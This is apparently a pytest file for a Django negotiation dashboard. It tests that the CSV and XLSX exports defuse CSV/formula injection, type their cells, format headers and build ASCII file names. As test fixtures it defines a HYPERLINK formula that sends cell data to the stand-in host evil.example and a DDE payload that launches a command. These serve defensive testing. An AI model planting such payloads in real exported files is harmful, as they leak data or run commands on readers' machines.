"""Downloads an analyst can use and that cannot run anything: named after the agreement, the
as-of point and the filter; typed cells, a bold frozen header with filters, fitted columns; and
no formula, in CSV or XLSX, whatever the negotiators typed."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from dashboards.exports import (
    FORMULA_STARTS,
    WIDEST_COLUMN,
    cell_of,
    export_filename,
    write_csv,
    write_xlsx,
)
from dashboards.filtersets import ChapterFilterSet
from negotiations.choices import Role
from negotiations.models import Meeting
from negotiations.services import create_commitment
from tests.factories import AgreementFactory, RoleAssignmentFactory, UserFactory
from workinggroups.models import Chapter, ContestedPoint, WorkingGroup
from workinggroups.services import create_chapter, open_contested_point

SLUG = "cambodia-china-fta"
HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Click for details")'
DDE = "=cmd|' /C calc'!A0"
PERSON = '=HYPERLINK("https://evil.example")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def payloads(seed):
    """Records whose text a spreadsheet would run as a formula, and the people who read them."""
    group = WorkingGroup.objects.get(agreement=seed, code="ROO")
    chapter = group.chapters.get(title="Rules of Origin")
    author = UserFactory(first_name=PERSON, last_name="Keo")
    RoleAssignmentFactory(user=author, agreement=seed, role=Role.NEGOTIATOR)
    for title in ["+Annex 2-A: tariff schedule of Cambodia", "@Annex 2-B: tariff schedule"]:
        create_chapter(working_group=group, title=title, by=author)
    points = [
        open_contested_point(
            chapter=chapter,
            title=title,
            by=author,
            owner=author,
            opened_on=dt.date(2020, 4, 10),
            target_date=dt.date(2020, 5, 15),
        )
        for title in [HYPERLINK, "-2% tariff cap on milled rice", "@SUM(A1:A9)", "Tab first"]
    ]
    # Recorded before titles were kept to one line: the download must still keep it text.
    ContestedPoint.objects.filter(pk=points[-1].pk).update(title="\tTab first")
    plenary = Meeting.objects.get(agreement=seed, negotiation_round__number=2)
    for text in [DDE, "+10% more milled rice each year"]:
        create_commitment(
            meeting=plenary,
            text=text,
            by=author,
            party=seed.parties.get(code="CHN"),
            due_on=dt.date(2020, 6, 30),
        )
    official = RoleAssignmentFactory(agreement=seed, role=Role.OFFICIAL).user
    RoleAssignmentFactory(
        user=official, agreement=AgreementFactory(name="-Side letter on rice"), role=Role.OFFICIAL
    )
    secretariat = RoleAssignmentFactory(agreement=seed, role=Role.SECRETARIAT).user
    return {"official": official, "secretariat": secretariat}


# (url, who reads it, text that must arrive as text with a leading apostrophe)
DOWNLOADS = {
    "chapters": (
        lambda: reverse("dashboards:chapter-list", args=[SLUG]),
        "official",
        ["+Annex 2-A: tariff schedule of Cambodia", "@Annex 2-B: tariff schedule"],
    ),
    "contested points": (
        lambda: reverse("dashboards:contested-points", args=[SLUG]),
        "official",
        [HYPERLINK, "-2% tariff cap on milled rice", "@SUM(A1:A9)", "\tTab first", f"{PERSON} Keo"],
    ),
    "commitments": (
        lambda: reverse("dashboards:commitments", args=[SLUG]),
        "official",
        [DDE, "+10% more milled rice each year"],
    ),
    "portfolio": (lambda: reverse("dashboards:portfolio"), "official", ["-Side letter on rice"]),
    "audit trail": (lambda: reverse("audit:entry-list"), "secretariat", [f"{PERSON} Keo"]),
}


def download(client, payloads, name, export_format, **query):
    url, reader, _ = DOWNLOADS[name]
    client.force_login(payloads[reader])
    response = client.get(url(), {**query, "export": export_format})
    assert response.status_code == 200
    return response


def workbook_sheet(response):
    assert response["Content-Type"] == XLSX
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def csv_rows(response):
    assert response["Content-Type"].startswith("text/csv")
    # The byte-order mark stays: without it Excel reads Khmer and Chinese as gibberish.
    assert response.content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("name", list(DOWNLOADS))
def test_no_xlsx_cell_is_a_formula_and_typed_text_stays_text(client, payloads, name):
    sheet = workbook_sheet(download(client, payloads, name, "xlsx"))
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]
    for payload in DOWNLOADS[name][2]:
        assert "'" + payload in texts, payload


@pytest.mark.parametrize("name", list(DOWNLOADS))
def test_no_csv_cell_can_run_as_a_formula(client, payloads, name):
    rows = csv_rows(download(client, payloads, name, "csv"))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for payload in DOWNLOADS[name][2]:
        assert "'" + payload in cells, payload


@pytest.mark.parametrize("name", list(DOWNLOADS))
def test_the_xlsx_header_is_bold_frozen_and_filters_and_columns_fit(client, payloads, name):
    sheet = workbook_sheet(download(client, payloads, name, "xlsx"))
    header = next(sheet.iter_rows(max_row=1))
    assert all(cell.font.b for cell in header)
    assert not any(cell.font.b for cell in next(sheet.iter_rows(min_row=2, max_row=2)))
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == sheet.dimensions
    widths = [sheet.column_dimensions[cell.column_letter].width for cell in header]
    assert all(
        len(cell.value) < width <= WIDEST_COLUMN for cell, width in zip(header, widths, strict=True)
    )


def columns_of(sheet):
    """{header: [the column's values below it]}"""
    header, *rows = sheet.values
    return {title: [row[index] for row in rows] for index, title in enumerate(header)}


def test_xlsx_numbers_are_numbers_and_days_are_days(client, payloads):
    chapters = columns_of(workbook_sheet(download(client, payloads, "chapters", "xlsx")))
    assert all(type(count) is int for count in chapters["Open contested points"])
    assert sum(chapters["Open contested points"]) == 4  # the four points opened above
    changed = [day for day in chapters["Last change"] if day is not None]
    assert changed
    assert all(isinstance(day, dt.date) for day in changed)
    assert set(chapters["Contested"]) == {"yes", "no"}

    points = columns_of(workbook_sheet(download(client, payloads, "contested points", "xlsx")))
    assert all(type(age) is int and age > 0 for age in points["Age (days)"])
    assert all(isinstance(day, dt.datetime) for day in points["Opened"])
    assert dt.datetime(2020, 5, 15) in points["Target date"]

    commitments = columns_of(workbook_sheet(download(client, payloads, "commitments", "xlsx")))
    assert dt.datetime(2020, 6, 30) in commitments["Due"]

    portfolio = columns_of(workbook_sheet(download(client, payloads, "portfolio", "xlsx")))
    assert all(type(count) is int for count in portfolio["Agreed"])
    assert 15 in portfolio["Agreed"]

    trail = workbook_sheet(download(client, payloads, "audit trail", "xlsx"))
    when = [row[0] for row in trail.iter_rows(min_row=2)]
    assert all(isinstance(cell.value, dt.datetime) for cell in when)
    # A spreadsheet has no time zones: the cell's format names the reader's clock.
    assert all(cell.number_format == 'yyyy-mm-dd hh:mm "UTC"' for cell in when)


def test_xlsx_days_show_as_days(client, payloads):
    sheet = workbook_sheet(download(client, payloads, "commitments", "xlsx"))
    due = [cell for cell in next(sheet.iter_cols(min_col=5, max_col=5)) if cell.row > 1]
    assert {cell.number_format for cell in due if cell.value is not None} == {"yyyy-mm-dd"}


def test_csv_keeps_the_words_and_days_the_page_shows(client, payloads):
    rows = csv_rows(download(client, payloads, "commitments", "csv"))
    assert rows[0] == ["Commitment", "Party", "Made at", "Owner", "Due", "Status", "Overdue"]
    (row,) = [row for row in rows if row[0] == "'" + DDE]
    assert row[4:] == ["2020-06-30", "Pledged", "yes"]


def test_a_negative_number_is_a_number_and_a_negative_looking_text_is_text():
    rows = [[cell_of("Change"), cell_of("Note")], [cell_of(-3), cell_of("-3")]]
    assert write_csv(rows) == "\ufeffChange,Note\r\n-3,'-3\r\n"
    stream = io.BytesIO()
    write_xlsx(rows, "Changes", stream)
    negative, text = next(openpyxl.load_workbook(stream).active.iter_rows(min_row=2))
    assert (negative.value, negative.data_type) == (-3, "n")
    assert (text.value, text.data_type) == ("'-3", "s")


def test_text_that_looks_like_an_error_code_or_holds_control_characters_stays_text():
    rows = [[cell_of("Note")], [cell_of("#N/A")], [cell_of("Rules\x0bof Origin")]]
    stream = io.BytesIO()
    write_xlsx(rows, "Notes: [draft]", stream)
    sheet = openpyxl.load_workbook(stream).active
    assert sheet.title == "Notes   draft"
    assert [(cell.value, cell.data_type) for (cell,) in sheet.iter_rows(min_row=2)] == [
        ("#N/A", "s"),
        ("Rulesof Origin", "s"),
    ]


def test_file_names_carry_the_agreement_the_as_of_point_and_the_filter(client, payloads):
    today = f"{timezone.localdate():%Y-%m-%d}"

    def filename(name, export_format, **query):
        response = download(client, payloads, name, export_format, **query)
        return response["Content-Disposition"]

    assert filename("chapters", "xlsx", as_of="round-2", status="agreed") == (
        'attachment; filename="cambodia-china-fta-chapters-as-of-round-2-status-agreed.xlsx"'
    )
    assert filename("portfolio", "csv") == f'attachment; filename="portfolio-{today}.csv"'
    assert filename("portfolio", "csv", as_of="2020-05-01") == (
        'attachment; filename="portfolio-as-of-2020-05-01.csv"'
    )
    group = WorkingGroup.objects.get(agreement__slug=SLUG, code="ROO")
    # Past a hundred characters, the filters that do not fit are left out whole.
    points = filename(
        "contested points",
        "xlsx",
        working_group=group.pk,
        overdue="true",
        target_date_after="2020-05-01",
    )
    assert points == (
        f'attachment; filename="cambodia-china-fta-contested-points-{today}'
        '-working-group-rules-of-origin-overdue-yes.xlsx"'
    )
    assert filename(
        "contested points",
        "csv",
        as_of="2020-05-20",
        target_date_after="2020-05-01",
        target_date_before="2020-06-30",
    ) == (
        'attachment; filename="cambodia-china-fta-contested-points-as-of-2020-05-20'
        '-target-date-2020-05-01-to-2020-06-30.csv"'
    )
    assert filename("commitments", "csv", q="rice") == (
        f'attachment; filename="cambodia-china-fta-commitments-{today}-search-rice.csv"'
    )
    assert filename("audit trail", "xlsx") == f'attachment; filename="audit-trail-{today}.xlsx"'


def test_a_file_name_is_ascii_and_short_whatever_the_filter(client, payloads):
    client.force_login(payloads["official"])
    url = reverse("dashboards:commitments", args=[SLUG])
    response = client.get(url, {"q": "大米" + " rice" * 40, "export": "csv"})
    name = response["Content-Disposition"].removeprefix('attachment; filename="')
    assert name.isascii()
    assert name.startswith("cambodia-china-fta-commitments-")
    assert len(name.removesuffix('.csv"')) <= 100
    # What cannot be said in ASCII is left out rather than garbled.
    khmer = client.get(url, {"q": "ស្រូវ", "export": "csv"})
    today = f"{timezone.localdate():%Y-%m-%d}"
    assert khmer["Content-Disposition"] == (
        f'attachment; filename="cambodia-china-fta-commitments-{today}.csv"'
    )


def test_a_filter_on_a_record_with_no_ascii_name_names_it_by_number(seed):
    group = WorkingGroup.objects.get(agreement=seed, code="ROO")
    group.name = "ក្រុមការងារច្បាប់ប្រភពដើម"
    group.save()
    filterset = ChapterFilterSet(
        {"working_group": group.pk, "status": "agreed_in_principle"},
        queryset=Chapter.objects.all(),
        agreement=seed,
    )
    assert export_filename(SLUG, "chapters", filterset=filterset) == (
        f"{SLUG}-chapters-{timezone.localdate():%Y-%m-%d}"
        f"-working-group-{group.pk}-status-agreed-in-principle"
    )
